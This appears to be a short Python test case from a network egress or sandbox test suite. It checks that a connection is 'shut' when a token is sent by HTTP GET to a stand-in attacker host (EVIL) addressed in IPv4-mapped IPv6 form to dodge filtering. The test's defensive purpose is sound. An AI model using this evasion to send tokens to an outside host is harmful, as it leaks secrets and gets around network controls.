"""
how: an IPv4 address written as IPv6
expect: shut
"""

from land import EVIL, bad
from sockets import tcp
from web import get


def attempt(token):
    return tcp("::ffff:" + EVIL, 80, get(bad(token)))
